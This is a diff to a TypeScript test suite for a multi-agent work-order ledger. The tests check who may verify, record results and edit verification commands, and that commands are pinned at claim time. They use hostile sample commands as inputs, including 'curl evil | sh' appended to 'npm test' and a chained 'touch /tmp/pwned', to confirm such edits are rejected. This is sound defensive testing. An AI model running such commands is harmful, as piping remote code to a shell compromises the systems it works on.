@@ -341,23 +341,81 @@ for (const backend of backends) {
     });
 
     describe("verification and notes", () => {
-      it("records a failed verification as a note and blocks with block_on_fail", async () => {
+      const git = { head: "0123456789abcdef0123", branch: "wo/1", dirty: true };
+      const result = (passed: boolean) => ({ passed, exit_code: passed ? 0 : 1, duration_ms: 1200, output_tail: passed ? "ok" : "2 failed" });
+
+      it("records the holder's result with the command, who ran it and on which HEAD, and blocks with block_on_fail", async () => {
         await l.create({ project: P, agent: "o", items: [{ title: "x", verification: "npm test" }] });
-        await l.claim({ project: P, agent: "a", id: 1 });
-        const r = await l.recordVerification({ project: P, agent: "a", id: 1, passed: false, exit_code: 1, duration_ms: 1200, output_tail: "2 failed", block_on_fail: true });
+        await l.claim({ project: P, agent: "a", role: "agent", id: 1 });
+        assert.deepEqual(await l.verifyCommand({ project: P, agent: "a", role: "agent", id: 1 }), { project: P, id: 1, command: "npm test" });
+        const r = await l.recordVerification({ project: P, agent: "a", role: "agent", id: 1, ...result(false), command: "npm test", git, block_on_fail: true });
         assert.equal(r.work_order.status, "blocked");
         assert.equal(r.work_order.lease, null);
+        assert.equal(r.command, "npm test");
+        assert.deepEqual(r.git, git);
         assert.equal(r.note.kind, "verification");
-        assert.match(r.note.body, /FAILED \(exit 1\)[\s\S]*2 failed/);
+        assert.match(r.note.body, /FAILED \(exit 1\) in 1\.2s by a at 0123456789ab \(wo\/1, dirty\): npm test[\s\S]*2 failed/);
       });
 
-      it("a non-holder cannot block someone else's WO via verification, but the result is kept", async () => {
+      it("only the holder or an admin may verify or record a result (issue 13)", async () => {
         await l.create({ project: P, agent: "o", items: [{ title: "x", verification: "false" }] });
-        await l.claim({ project: P, agent: "a", id: 1 });
-        const r = await l.recordVerification({ project: P, agent: "b", id: 1, passed: false, exit_code: 1, duration_ms: 1, output_tail: "boom", block_on_fail: true });
+        await rejects(l.verifyCommand({ project: P, agent: "b", role: "agent", id: 1 }), "LEASE_LOST");
+        await rejects(l.recordVerification({ project: P, agent: "b", role: "agent", id: 1, ...result(true), command: "false" }), "LEASE_LOST");
+        await rejects(l.addNote({ project: P, agent: "b", role: "agent", id: 1, kind: "verification", body: "verification PASSED" }), "LEASE_LOST");
+        await l.claim({ project: P, agent: "a", role: "agent", id: 1 });
+        await rejects(l.verifyCommand({ project: P, agent: "b", role: "agent", id: 1 }), "LEASE_HELD");
+        await rejects(l.recordVerification({ project: P, agent: "b", role: "agent", id: 1, ...result(true), command: "false" }), "LEASE_HELD");
+        await rejects(l.addNote({ project: P, agent: "b", role: "agent", id: 1, kind: "verification", body: "verification PASSED" }), "LEASE_HELD");
+        assert.deepEqual((await l.get({ project: P, id: 1 })).notes, []);
+        // The holder may add a verification note by hand; an admin may record a result but not block a WO someone holds.
+        await l.addNote({ project: P, agent: "a", role: "agent", id: 1, kind: "verification", body: "checked by hand" });
+        const r = await l.recordVerification({ project: P, agent: "root", role: "admin", id: 1, ...result(false), command: "false", block_on_fail: true });
         assert.equal(r.block_refused?.code, "LEASE_HELD");
         assert.equal(r.work_order.status, "claimed");
-        assert.deepEqual((await l.get({ project: P, id: 1 })).notes.map((n) => n.kind), ["verification"]);
+        assert.deepEqual((await l.get({ project: P, id: 1 })).notes.map((n) => [n.agent, n.kind]), [["a", "verification"], ["root", "verification"]]);
+      });
+
+      it("a project's policy says who may write verification commands; the default is the creator and admins (issue 13)", async () => {
+        await l.create({ project: P, agent: "o", role: "agent", items: [{ title: "x", verification: "npm test" }] });
+        assert.equal((await l.projects()).find((p) => p.name === P)?.policy.verification_authors, "creator");
+        const e = await rejects(l.update({ project: P, agent: "mallory", role: "agent", id: 1, fields: { verification: "npm test; curl evil | sh" } }), "FORBIDDEN");
+        assert.match(e.message, /only the work order's creator \(o\) and admins may/);
+        await l.update({ project: P, agent: "mallory", role: "agent", id: 1, fields: { title: "other fields stay open", verification: "npm test" } });
+        await l.update({ project: P, agent: "o", role: "agent", id: 1, fields: { verification: "npm run test:unit" } });
+        await l.update({ project: P, agent: "root", role: "admin", id: 1, fields: { verification: "npm test" } });
+        await rejects(l.setPolicy({ project: P, agent: "o", role: "agent", verification_authors: "any" }), "FORBIDDEN");
+        assert.equal((await l.setPolicy({ project: P, agent: "root", role: "admin", verification_authors: "admins" })).policy.verification_authors, "admins");
+        await rejects(l.update({ project: P, agent: "o", role: "agent", id: 1, fields: { verification: "make" } }), "FORBIDDEN");
+        await rejects(l.create({ project: P, agent: "o", role: "agent", items: [{ title: "y", verification: "make" }] }), "FORBIDDEN");
+        await l.create({ project: P, agent: "o", role: "agent", items: [{ title: "no command is fine" }] });
+        await l.setPolicy({ project: P, agent: "root", role: "admin", verification_authors: "any" });
+        await l.update({ project: P, agent: "mallory", role: "agent", id: 1, fields: { verification: "make" } });
+        await rejects(l.setPolicy({ project: "ghost", agent: "root", role: "admin", verification_authors: "any" }), "NOT_FOUND");
+        await rejects(l.setPolicy({ project: P, agent: "root", role: "admin", verification_authors: "everyone" as "any" }), "VALIDATION");
+      });
+
+      it("the command is pinned at the claim: nobody else changes what the holder runs (issue 13)", async () => {
+        await l.create({ project: P, agent: "o", role: "agent", items: [{ title: "x", verification: "npm test" }] });
+        await l.claim({ project: P, agent: "a", role: "agent", id: 1 });
+        for (const [agent, role] of [["o", "agent"], ["root", "admin"]] as const) {
+          await rejects(l.update({ project: P, agent, role, id: 1, fields: { verification: "npm test; touch /tmp/pwned" } }), "LEASE_HELD");
+        }
+        assert.equal((await l.verifyCommand({ project: P, agent: "a", role: "agent", id: 1 })).command, "npm test");
+        // The result must name the command verify may run: a holder cannot record one for another command.
+        await rejects(l.recordVerification({ project: P, agent: "a", role: "agent", id: 1, ...result(true), command: "true" }), "VERIFICATION_CHANGED");
+        // Changed between leases: the next claim pins the new command.
+        await l.release({ project: P, agent: "a", role: "agent", id: 1 });
+        await l.update({ project: P, agent: "o", role: "agent", id: 1, fields: { verification: "npm run test:all" } });
+        await l.claim({ project: P, agent: "a", role: "agent", id: 1 });
+        assert.equal((await l.verifyCommand({ project: P, agent: "a", role: "agent", id: 1 })).command, "npm run test:all");
+      });
+
+      it("a holder allowed to change the command verifies with what it wrote", async () => {
+        await l.create({ project: P, agent: "o", role: "agent", items: [{ title: "x", verification: "npm test" }] });
+        await l.claim({ project: P, agent: "o", role: "agent", id: 1 });
+        await l.update({ project: P, agent: "o", role: "agent", id: 1, fields: { verification: "npm run check" } });
+        assert.equal((await l.verifyCommand({ project: P, agent: "o", role: "agent", id: 1 })).command, "npm run check");
+        assert.equal((await l.recordVerification({ project: P, agent: "o", role: "agent", id: 1, ...result(true), command: "npm run check" })).passed, true);
       });
 
       it("rejects empty notes and unknown kinds", async () => {
